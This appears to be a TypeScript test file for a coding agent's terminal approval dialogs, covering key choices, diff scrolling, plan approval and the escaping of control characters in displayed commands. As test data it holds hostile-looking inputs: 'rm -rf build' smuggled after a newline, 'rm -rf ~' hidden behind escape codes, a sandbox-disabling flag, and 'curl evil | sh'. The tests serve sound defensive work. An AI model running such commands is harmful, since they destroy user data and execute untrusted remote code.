// Dialogs: what keys choose, and the answers for the agent.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  type Dialog,
  type DialogAnswer,
  dialogLines,
  makeDialog,
  pressInDialog,
  turnBody,
} from '../../../../src/cli/console/dialog/dialog.ts';
import {
  approvalDialog,
  approvalOf,
  planDecisionOf,
  planDialog,
  questionAnswer,
  questionDialog,
} from '../../../../src/cli/console/dialog/questions.ts';
import { KeyReader } from '../../../../src/cli/terminal/keys.ts';
import { createStyle } from '../../../../src/cli/terminal/style.ts';

const drawing = { style: createStyle(false), columns: 60, rows: 24, nowMs: 0, cwd: '/work' };

function answer(dialog: Dialog, keys: string): DialogAnswer | undefined {
  const reader = new KeyReader();
  let current = dialog;
  for (const key of [...reader.push(keys), ...reader.settle()]) {
    const pressed = pressInDialog(current, key);
    if (pressed.answer !== undefined) return pressed.answer;
    current = pressed.dialog;
  }
  return undefined;
}

const down = '\x1b[B';
const rule = { rule: 'Bash(npm test:*)', scope: 'local' } as const;
const request = {
  call: { id: 't1', name: 'Bash', input: { command: 'npm test\nrm -rf build', description: 'Test it' } },
  why: 'no rule allows it',
  always: [rule],
};

test('a permission is given once, always, or refused, with numbers or arrows', () => {
  const approve = (keys: string): unknown => {
    const given = answer(approvalDialog(request), keys);
    return given === undefined ? undefined : approvalOf(given, request);
  };
  const stop = { kind: 'deny', message: 'The user said no and wants to decide what comes next.', isInterrupt: true };
  assert.deepEqual(['1', '\r', '2', `${down}\r`, '\x1b', '4', `${down}${down}${down}\r`].map(approve), [
    { kind: 'allow' },
    { kind: 'allow' },
    { kind: 'allow', always: rule },
    { kind: 'allow', always: rule },
    stop,
    stop,
    stop,
  ]);
  assert.deepEqual(approve('3use make 2\r'), {
    kind: 'deny',
    message: 'The user said no, and: use make 2',
    isInterrupt: false,
  });
  assert.equal(approve('3\r'), undefined, 'words that are missing are waited for');
  assert.equal(approve('9x7'), undefined, 'a number that no choice has chooses nothing');
});

test('a question for permission shows the whole action and the reason', () => {
  assert.deepEqual(dialogLines(approvalDialog(request), drawing, 20).lines, [
    '─'.repeat(60),
    ' Allow Bash?',
    '   npm test',
    '   rm -rf build',
    '   Test it',
    ' Why: no rule allows it',
    ' ❯ 1. Yes',
    '   2. Always in this project: Bash(npm test:*)',
    '   3. No, and suggest something else',
    '   4. No, and stop',
    ' ↑↓ or 1–4 · Enter · Esc declines',
  ]);
});

test('a question about an edit shows its diff, and a long one scrolls by page with the choices visible', () => {
  const text = (count: number): string => Array.from({ length: count }, (_, i) => `line ${i}\n`).join('');
  const input = { file_path: '/work/a.ts', content: text(50) };
  const dialog = approvalDialog({ call: { id: 't', name: 'Write', input }, why: 'it makes a file', always: [] });
  const { lines } = dialogLines(dialog, drawing, 14);
  assert.equal(lines.length, 14);
  assert.deepEqual(lines.slice(2, 10), [
    '   a.ts',
    '   + line 0',
    '   + line 1',
    '   + line 2',
    '   + line 3',
    '   + line 4',
    '   + line 5',
    '… 45 more lines · PageDown',
  ]);
  const turn = (from: Dialog, pages: 1 | -1): Dialog => turnBody(from, pages, drawing, 14);
  const body = (turned: Dialog): readonly string[] => dialogLines(turned, drawing, 14).lines.slice(2, 10);
  const second = turn(dialog, 1);
  assert.deepEqual([body(second)[0], body(second)[7]], ['   + line 6', '… 38 more lines · PageDown']);
  let last = second;
  for (let i = 0; i < 20; i++) last = turn(last, 1);
  assert.deepEqual(body(last).slice(-3), ['   + line 49', ' Why: it makes a file', '… end · PageUp']);
  assert.equal(turn(turn(last, 1), -1).bodyAt, last.bodyAt - 7);
  assert.equal(turn(dialog, -1).bodyAt, 0);
});

test('the content of a call cannot move the cursor or change colours', () => {
  const command = 'ls\x1b[2J\x1b]0;x\x07 \u202Etxt\r\nrm';
  const dialog = approvalDialog({
    call: { id: 't', name: 'Bash', input: { command } },
    why: 'why\x1b[31m',
    always: [],
  });
  const text = dialogLines(dialog, drawing, 20).lines.join('\n');
  assert.equal(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/.test(text), false, text);
  assert.match(text, /ls‹U\+001B›\[2J‹U\+001B›\]0;x‹U\+0007› ‹U\+202E›txt‹U\+000D›\n {3}rm/);
});

test('a plan is approved, approved with edits, or sent back with a message', () => {
  const decide = (keys: string): unknown => planDecisionOf(answer(planDialog(), keys) ?? { kind: 'cancelled' });
  assert.deepEqual(['1', '2', '3do less\r', '4', '\x1b'].map(decide), [
    { answer: { kind: 'plan', isApproved: true }, acceptsEdits: true },
    { answer: { kind: 'plan', isApproved: true }, acceptsEdits: false },
    { answer: { kind: 'plan', isApproved: false, comment: 'do less' }, acceptsEdits: false },
    { answer: { kind: 'plan', isApproved: false }, acceptsEdits: false },
    { answer: { kind: 'plan', isApproved: false }, acceptsEdits: false },
  ]);
});

test('questions take one answer, several, or text, whatever options the model wrote', () => {
  const one = { question: 'Which?', options: [{ label: 'Left', description: 'old' }, 'Right', 7, { no: 'label' }] };
  const several = { ...one, multiSelect: true };
  const say = (question: typeof one, keys: string): string | undefined => {
    const given = answer(questionDialog(question, { number: 1, of: 1 }), keys);
    return given === undefined ? undefined : questionAnswer(question, given);
  };
  assert.deepEqual(
    [
      say(one, '2'),
      say(one, '3neither\r'),
      say(one, '\x1b'),
      say(several, '12\r'),
      say(several, ` ${down}${down}both\r`),
    ],
    ['Right', 'neither', undefined, 'Left, Right', 'Left, both'],
  );
  assert.deepEqual(questionDialog({}, { number: 1, of: 2 }).choices.length, 1);
});

test('a long list scrolls, and the chosen line is in sight', () => {
  const choices = Array.from({ length: 40 }, (_, i) => ({ label: `session ${i + 1}` }));
  const dialog = { ...makeDialog({ title: 'Which?', choices }), selected: 25 };
  const { lines } = dialogLines(dialog, drawing, 10);
  assert.equal(lines.length, 10);
  assert.equal(
    lines.some((line) => line.startsWith(' ❯ 26. session 26')),
    true,
    lines.join('\n'),
  );
});

test('on a narrow screen the selected choice is shown in full', () => {
  const rule = 'Bash(git commit:*) and Bash(git push:*)';
  const dialog = approvalDialog({ ...request, why: '', always: [{ rule, scope: 'session' }] });
  const { dialog: down } = pressInDialog(dialog, { name: 'down', text: '' });
  const { lines } = dialogLines(down, { ...drawing, columns: 30 }, 20);
  assert.deepEqual(lines.slice(-8), [
    '   1. Yes',
    ' ❯ 2. Always in this',
    '      session: Bash(git',
    '      commit:*) and Bash(git',
    '      push:*)',
    '   3. No, and suggest someth…',
    '   4. No, and stop',
    ' ↑↓ or 1–4 · Enter',
  ]);
});

test('a question shows every character of a command, the rule and the rest of the input', () => {
  const command = `echo safe\x1b]0;; rm -rf ~\x07 \u202e\u200bend ${'x'.repeat(200)} last`;
  const rule = `Bash(${command})`;
  const input = { command, description: 'harmless\x1b[2K', timeout: 5, dangerouslyDisableSandbox: true };
  const dialog = approvalDialog({
    call: { id: 't', name: 'Bash', input },
    why: 'it is not \x1b[8mknown',
    always: [{ rule, scope: 'local' }],
  });
  const shown = dialogLines(dialog, { ...drawing, columns: 60, rows: 60 }, 60).lines.join('\n');
  const joined = shown.replace(/\s+/g, '');
  const whole = `echosafe‹U+001B›]0;;rm-rf~‹U+0007›‹U+202E›‹U+200B›end${'x'.repeat(200)}last`;
  assert.equal(joined.split(whole).length - 1, 2, shown);
  for (const part of ['harmless‹U+001B›[2K', '"timeout":5', '"dangerouslyDisableSandbox":true', 'not‹U+001B›[8mknown'])
    assert.ok(joined.includes(part), `${part}\n${shown}`);
});

test('long lines of an edit are wrapped in a question, not cut', () => {
  const line = `${'a'.repeat(150)}; curl evil | sh`;
  const input = { file_path: '/p/a.sh', content: `${line}\n` };
  const dialog = approvalDialog({ call: { id: 't', name: 'Write', input }, why: '', always: [] });
  const shown = dialogLines(dialog, { ...drawing, columns: 60, rows: 60 }, 60).lines.join('');
  assert.ok(shown.replace(/\s+/g, '').includes(line.replace(/\s+/g, '')), shown);
});
